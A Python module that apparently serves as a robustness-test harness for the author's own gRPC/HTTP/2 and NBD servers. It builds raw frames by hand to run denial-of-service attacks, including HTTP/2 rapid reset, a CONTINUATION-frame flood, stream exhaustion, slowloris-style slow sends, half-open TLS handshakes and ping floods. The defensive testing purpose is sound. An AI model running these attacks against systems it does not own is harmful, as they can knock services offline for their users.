"""A peer that keeps no rule: raw bytes, TLS begun and left, and HTTP/2 frames and NBD requests made by hand.

A library would refuse to send most of this. Every function is bounded in time and in bytes; that the server
hangs up, or takes no more, is what it should do and no error here.
"""

import os
import socket
import ssl
import struct
import time

MIB = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4  # of SETTINGS
FRAME_BYTES = 16384  # the largest that a server takes unless it says otherwise
SEND_SECONDS_MAX = 2
# NBD's options, a request's magic number, and what requests ask for.
NBD_STARTTLS, NBD_GO = 5, 7
NBD_ACK = 1
NBD_REQUEST = 0x25609513
NBD_READ, NBD_WRITE = 0, 1
# Answered by every server of ours, to everybody that it lets in; Watch stays open.
WATCH, CHECK = b"/grpc.health.v1.Health/Watch", b"/grpc.health.v1.Health/Check"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _hpack_length(length):
    if length < 127:
        return bytes([length])
    out, length = b"\x7f", length - 127
    while length >= 128:
        out, length = out + bytes([length % 128 + 128]), length // 128
    return out + bytes([length])


def field(name, value):
    """A header that is in no table and goes into none."""
    return b"\0" + _hpack_length(len(name)) + name + _hpack_length(len(value)) + value


def call_headers(path, more=b""):
    return (field(b":method", b"POST") + field(b":scheme", b"https") + field(b":path", path)
            + field(b":authority", b"localhost") + field(b"content-type", b"application/grpc") + field(b"te", b"trailers")
            + more)


class Stranger:
    """One connection. `tls`: an ssl.SSLContext to speak through, or None."""

    def __init__(self, address, tls=None):
        if address.startswith("/"):
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.settimeout(SEND_SECONDS_MAX)
            self.socket.connect(address)
        else:
            host, port = address.rsplit(":", 1)
            self.socket = socket.create_connection((host, int(port)), timeout=SEND_SECONDS_MAX)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname=address.rsplit(":", 1)[0])
        self.sent = 0

    def send(self, data):
        """False: the peer has hung up, or takes no more."""
        try:
            self.socket.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            return False

    def take(self, count):
        """So many bytes from the peer; an OSError if it hangs up before."""
        data = b""
        while len(data) < count:
            more = self.socket.recv(count - len(data))
            if not more:
                raise ConnectionError("the peer has hung up")
            data += more
        return data

    def begin_tls(self, tls):
        self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")

    def hung_up(self, seconds):
        """Whether the peer ends the connection within `seconds`; what it says before is read."""
        deadline = time.monotonic() + seconds
        try:
            while (left := deadline - time.monotonic()) > 0:
                self.socket.settimeout(left)
                if not self.socket.recv(65536):
                    return True
        except TimeoutError:
            return False
        except OSError:
            return True
        return False

    def close(self):
        self.socket.close()


def context(files=None):
    """For TLS without a certificate, or with (certificate, key)."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.set_alpn_protocols(["h2"])
    if files:
        made.load_cert_chain(*files)
    return made


def client_hello():
    sent = ssl.MemoryBIO()
    try:
        context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()
    raise AssertionError("a handshake with nobody")


class FlowControlled:
    """An HTTP/2 connection that keeps to the windows that it is given, so that it is not ended for that."""

    def __init__(self, peer):
        self.peer = peer
        self.received = b""
        self.initial = self.window = 65535
        self.streams = {}  # to what its window was raised
        self.sent = {}

    def open(self, stream, headers, data):
        self.streams[stream] = self.initial
        self.sent[stream] = 0
        self.peer.send(frame(HEADERS, END_HEADERS, stream, headers))
        self._send(stream, data)

    def fill(self, bytes_max):
        """Sends on all streams, `bytes_max` on each, until there has been no room for a while."""
        while self._take(0.3):
            for stream in self.streams:
                while (room := min(self.window, self.streams[stream] - self.sent[stream],
                                   bytes_max - self.sent[stream], FRAME_BYTES)) > 0:
                    if not self._send(stream, bytes(room)):
                        return

    def _send(self, stream, data):
        self.window -= len(data)
        self.sent[stream] += len(data)
        return self.peer.send(frame(DATA, 0, stream, data))

    def _take(self, seconds):
        """Reads frames; False: none has come within `seconds`."""
        try:
            self.peer.socket.settimeout(seconds)
            more = self.peer.socket.recv(65536)
        except OSError:
            return False
        finally:
            self.peer.socket.settimeout(SEND_SECONDS_MAX)
        self.received += more
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            self._see(kind, flags, stream, self.received[9:9 + length])
            self.received = self.received[9 + length:]
        return bool(more)

    def _see(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE:
            more = struct.unpack(">I", payload)[0]
            if stream == 0:
                self.window += more
            elif stream in self.streams:
                self.streams[stream] += more
        elif kind == SETTINGS and not flags & ACK:
            settings = dict(struct.iter_unpack(">HI", payload))
            before, self.initial = self.initial, settings.get(INITIAL_WINDOW_SIZE, self.initial)
            self.streams = {stream: window + self.initial - before for stream, window in self.streams.items()}
            self.peer.send(frame(SETTINGS, ACK, 0))


class Attack:
    """What one attack holds open until it is over."""

    def __init__(self, address, tls=None):
        self.address = address
        self.tls = tls
        self.open = []

    def connect(self, tls=None):
        peer = Stranger(self.address, tls)
        self.open.append(peer)
        return peer

    def over(self):
        for peer in self.open:
            peer.close()

    def _http2(self):
        peer = self.connect(self.tls)
        peer.send(PREFACE + frame(SETTINGS, 0, 0))
        return peer

    # --- what needs no certificate ---

    def random_bytes(self):
        for _ in range(50):
            self.connect().send(os.urandom(65536))

    def silent_connections(self, count=300):
        for _ in range(count):
            self.connect()

    def half_open_handshakes(self, count=300):
        hello = client_hello()
        for i in range(count):
            # Half of the first message; or all of it, and never the second.
            self.connect().send(hello[:len(hello) // (1 + i % 2)])

    def handshakes_that_are_refused(self, count=50):
        """An AssertionError if one is let in."""
        for _ in range(count):
            try:
                peer = self.connect(self.tls)
            except ssl.SSLError:
                continue
            # With TLS 1.3 the client's handshake is over before the server has looked.
            peer.send(PREFACE + frame(SETTINGS, 0, 0))
            if not peer.hung_up(5):
                raise AssertionError("a peer without a good certificate is let in")

    def _nbd(self):
        """A connection whose server has said what it is, and been told that we are new."""
        peer = self.connect()
        peer.take(18)
        peer.send(struct.pack(">I", 3))
        return peer

    def _nbd_option(self, peer, option, data=b""):
        """Until it is acknowledged."""
        peer.send(b"IHAVEOPT" + struct.pack(">II", option, len(data)) + data)
        kind = None
        while kind != NBD_ACK:
            _, _, kind, length = struct.unpack(">QIII", peer.take(20))
            peer.take(length)
            if kind >= 1 << 31:
                raise ConnectionError(f"option {option} is refused: {kind:#x}")

    def half_open_nbd_handshakes(self, count=30):
        """As half_open_handshakes, after the option that asks for TLS."""
        hello = client_hello()
        for i in range(count):
            peer = self._nbd()
            self._nbd_option(peer, NBD_STARTTLS)
            peer.send(hello[:len(hello) // (1 + i % 2)])

    def random_bytes_for_an_nbd_handshake(self, count=30):
        for _ in range(count):
            peer = self._nbd()
            self._nbd_option(peer, NBD_STARTTLS)
            peer.send(os.urandom(65536))

    def nbd_requests_of_a_gib(self, export):
        """To write 1 GiB, of which 64 MiB are sent, and to read as much."""
        for kind, data in ((NBD_WRITE, bytes(MIB)), (NBD_READ, b"")):
            peer = self._nbd()
            if self.tls:
                self._nbd_option(peer, NBD_STARTTLS)
                peer.begin_tls(self.tls)
            self._nbd_option(peer, NBD_GO, struct.pack(">I", len(export)) + export + bytes(2))
            peer.send(struct.pack(">IHHQQI", NBD_REQUEST, 0, kind, 1, 0, 1 << 30))
            for _ in range(64):
                if not peer.send(data):
                    break

    def a_byte_a_second(self, text, seconds=3, count=50, before=b""):
        """`text`, after `before` at once; over TLS, if this attack has a certificate to show."""
        peers = [self.connect(self.tls) for _ in range(count)]
        for peer in peers:
            peer.send(before)
        for i in range(seconds):
            for peer in peers:
                peer.send(text[i:i + 1])
            time.sleep(1)

    def a_request_without_end(self):
        """HTTP/1: 32 MiB of one header's value."""
        peer = self.connect()
        peer.send(b"GET /metrics HTTP/1.1\r\nX: ")
        for _ in range(32):
            if not peer.send(b"x" * MIB):
                return

    # --- what a peer with any certificate that is good can do ---

    def garbage_after_the_preface(self):
        for _ in range(50):
            self._http2().send(os.urandom(65536))

    def frames_of_unknown_kind(self):
        peer = self._http2()
        for i in range(2000):
            if not peer.send(frame(0x40 + i % 100, 0xff, i, os.urandom(FRAME_BYTES))):
                return

    def calls_that_it_may_not_make(self, path, count=2000):
        """Their answers are read."""
        peer = self._http2()
        headers = call_headers(path)
        for first in range(0, count, 50):
            if not peer.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) for i in range(first, first + 50))):
                return
            peer.hung_up(0.01)
            peer.socket.settimeout(SEND_SECONDS_MAX)

    def ten_thousand_streams(self):
        """More than the server allows; it has not been told that this was heard, and then gRPC 1.51 allows any number."""
        peer = self._http2()
        headers = call_headers(WATCH)
        for first in range(0, 10000, 100):
            batch = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) + frame(DATA, END_STREAM, 2 * i + 1, bytes(5))
                             for i in range(first, first + 100))
            if not peer.send(batch):
                return

    def rapid_reset(self, count=10000):
        peer = self._http2()
        headers = call_headers(CHECK)
        for first in range(0, count, 100):
            batch = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, headers) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
                             for i in range(first, first + 100))
            if not peer.send(batch):
                return

    def a_message_of_a_gib(self):
        """Says 1 GiB, and sends 64 MiB of it, whatever the window."""
        peer = self._http2()
        peer.send(frame(HEADERS, END_HEADERS, 1, call_headers(CHECK)) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 30)))
        for _ in range(64 * MIB // FRAME_BYTES):
            if not peer.send(frame(DATA, 0, 1, bytes(FRAME_BYTES))):
                return

    def messages_without_end(self, connections=4, streams=64):
        """On each stream a message that is small enough, as much of it as the server gives room for, but never its end."""
        for _ in range(connections):
            flow = FlowControlled(self._http2())
            for stream in range(1, 2 * streams, 2):
                flow.open(stream, call_headers(CHECK), struct.pack(">BI", 0, 4 * MIB))
            flow.fill(4 * MIB - 1)

    def metadata_without_end(self):
        """One header of 16 KiB after the other, in CONTINUATION frames of which none is the last: 32 MiB."""
        for _ in range(4):
            peer = self._http2()
            peer.send(frame(HEADERS, 0, 1, call_headers(CHECK)))
            part = field(b"x-much", b"y" * (FRAME_BYTES - 32))
            for _ in range(8 * MIB // FRAME_BYTES):
                if not peer.send(frame(CONTINUATION, 0, 1, part)):
                    break

    def pings_whose_answers_are_not_read(self):
        peer = self._http2()
        batch = b"".join(frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0) for _ in range(1000))
        for _ in range(200):
            if not peer.send(batch):
                return
